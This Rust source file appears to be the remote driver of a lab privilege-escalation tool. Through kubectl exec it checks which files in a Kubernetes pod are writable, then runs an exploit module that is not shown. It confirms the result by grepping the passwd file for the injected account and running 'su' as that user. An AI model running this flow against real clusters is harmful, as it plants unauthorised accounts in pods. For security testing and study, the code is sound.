// SPDX-License-Identifier: AGPL-3.0-or-later
// Copyright (c) 2025-2026 JR Morton

//! Remote driver: run the lab flow inside a pod through `kubectl`.
//!
//! [`PodTarget`] turns every [`Target`] operation into a shell snippet
//! executed with `kubectl exec`, so probing, injection and verification are
//! the same code paths the local run uses. Arguments are quoted with
//! `shell-escape`; nothing is atomic across the two appends.

use std::borrow::Cow;
use std::path::Path;
use std::time::Duration;

use anyhow::{bail, Context, Result};

use crate::abort::Abort;
use crate::config::Config;
use crate::exploit::{self, Outcome};
use crate::permissions::describe_permissions;
use crate::profile::Profile;
use crate::report;
use crate::runner::{run_cmd_timeout, CmdOutput};
use crate::target::Target;

/// Phase a pod must report before anything is attempted.
pub const RUNNING_PHASE: &str = "Running";

/// Query and exec access to workloads in a cluster.
pub trait Cluster {
    fn phase(&self, namespace: &str, pod: &str) -> Result<String>;

    /// Run `script` with the pod's shell and capture its output.
    fn exec(&self, namespace: &str, pod: &str, script: &str, timeout: Duration)
        -> Result<CmdOutput>;
}

/// `kubectl` on this machine.
#[derive(Debug, Clone)]
pub struct Kubectl {
    pub binary: String,
    pub shell: String,
    /// Floor for every kubectl call; API round trips dwarf in-pod timeouts
    pub timeout: Duration,
}

impl Kubectl {
    pub fn from_config(config: &Config) -> Self {
        Self {
            binary: config.remote.kubectl.clone(),
            shell: config.remote.shell.clone(),
            timeout: Duration::from_secs(config.remote.timeout_secs),
        }
    }
}

/// `.status.phase` from `kubectl get pod -o json`.
pub fn parse_phase(json: &str) -> Result<String> {
    let value: serde_json::Value =
        serde_json::from_str(json).context("kubectl returned invalid JSON")?;
    value
        .pointer("/status/phase")
        .and_then(|p| p.as_str())
        .map(str::to_string)
        .context("pod JSON has no status.phase")
}

impl Cluster for Kubectl {
    fn phase(&self, namespace: &str, pod: &str) -> Result<String> {
        let out = run_cmd_timeout(
            &self.binary,
            &["get", "pod", pod, "-n", namespace, "-o", "json"],
            self.timeout,
        )?;
        if !out.success() {
            bail!("kubectl get pod {} failed: {}", pod, out.stderr.trim());
        }
        parse_phase(&out.stdout)
    }

    fn exec(
        &self,
        namespace: &str,
        pod: &str,
        script: &str,
        timeout: Duration,
    ) -> Result<CmdOutput> {
        run_cmd_timeout(
            &self.binary,
            &["exec", "-n", namespace, pod, "--", &self.shell, "-c", script],
            timeout.max(self.timeout),
        )
    }
}

pub fn quote(s: &str) -> String {
    shell_escape::unix::escape(Cow::Borrowed(s)).into_owned()
}

fn quote_path(path: &Path) -> String {
    quote(&path.to_string_lossy())
}

/// A pod addressed by namespace and name.
pub struct PodTarget<'a> {
    cluster: &'a dyn Cluster,
    pub namespace: String,
    pub pod: String,
    timeout: Duration,
}

impl<'a> PodTarget<'a> {
    pub fn new(cluster: &'a dyn Cluster, namespace: &str, pod: &str) -> Self {
        Self {
            cluster,
            namespace: namespace.to_string(),
            pod: pod.to_string(),
            timeout: Duration::from_secs(30),
        }
    }

    pub fn phase(&self) -> Result<String> {
        self.cluster.phase(&self.namespace, &self.pod)
    }

    fn checked(&self, script: &str, what: &str) -> Result<CmdOutput> {
        let out = self.exec_shell(script, self.timeout)?;
        if !out.success() {
            bail!("{} failed in {}: {}", what, self.describe(), out.stderr.trim());
        }
        Ok(out)
    }
}

impl Target for PodTarget<'_> {
    fn describe(&self) -> String {
        format!("pod {}/{}", self.namespace, self.pod)
    }

    fn exec(&self, argv: &[&str], timeout: Duration) -> Result<CmdOutput> {
        if argv.is_empty() {
            bail!("Empty command line");
        }
        let script = argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ");
        self.exec_shell(&script, timeout)
    }

    fn exec_shell(&self, script: &str, timeout: Duration) -> Result<CmdOutput> {
        self.cluster.exec(&self.namespace, &self.pod, script, timeout)
    }

    fn is_writable(&self, path: &Path) -> bool {
        self.exec_shell(&format!("test -w {}", quote_path(path)), self.timeout)
            .map(|o| o.success())
            .unwrap_or(false)
    }

    fn exists(&self, path: &Path) -> bool {
        self.exec_shell(&format!("test -e {}", quote_path(path)), self.timeout)
            .map(|o| o.success())
            .unwrap_or(false)
    }

    fn append_line(&self, path: &Path, line: &str) -> Result<()> {
        let p = quote_path(path);
        // `>>` on a missing file would create it; the local append refuses to.
        self.checked(
            &format!("test -e {p} && printf '%s' {} >> {p}", quote(line)),
            &format!("append to {}", path.display()),
        )?;
        Ok(())
    }

    fn read_to_string(&self, path: &Path) -> Result<String> {
        let out = self.checked(
            &format!("cat {}", quote_path(path)),
            &format!("read {}", path.display()),
        )?;
        Ok(out.stdout)
    }

    fn write_executable(&self, path: &Path, contents: &str) -> Result<()> {
        let p = quote_path(path);
        self.checked(
            &format!("printf '%s' {} > {p} && chmod 755 {p}", quote(contents)),
            &format!("write {}", path.display()),
        )?;
        Ok(())
    }
}

/// Remote flow: phase gate, permission listing, exploit, echo back results.
pub fn drive(
    cluster: &dyn Cluster,
    config: &Config,
    namespace: &str,
    pod: &str,
    profile: Option<Profile>,
) -> Result<Outcome, Abort> {
    let target = PodTarget::new(cluster, namespace, pod);

    let phase = target.phase().unwrap_or_else(|e| {
        tracing::debug!("phase lookup for {} failed: {:#}", pod, e);
        "Unknown".to_string()
    });
    if phase != RUNNING_PHASE {
        report::bad(&format!("Pod {} is not running in namespace {}", pod, namespace));
        report::step("Please ensure the pod is created and running");
        return Err(Abort::TargetNotRunning {
            namespace: namespace.to_string(),
            pod: pod.to_string(),
            phase,
        });
    }
    report::good(&format!("Pod {} is running in namespace {}", pod, namespace));

    report::step("Testing file permissions inside the pod...");
    describe_permissions(&target, &config.files);

    let profile = profile.unwrap_or_else(|| Profile::detect(&target));
    report::step(&format!("Target profile: {}", profile));

    let outcome = exploit::run(&target, config, profile)?;

    let user = &outcome.account.username;
    let timeout = Duration::from_secs(config.verify.timeout_secs);
    if let Ok(out) = target.exec(&["grep", user.as_str(), config.files.passwd.to_string_lossy().as_ref()], timeout) {
        report::step(&format!(
            "Verification - {} entry: {}",
            config.files.passwd.display(),
            out.out()
        ));
    }
    if let Ok(out) = target.exec(&["su", "-", user.as_str(), "-c", "id"], timeout) {
        report::step(&format!("User ID as '{}': {}", user, out.out()));
    }

    Ok(outcome)
}
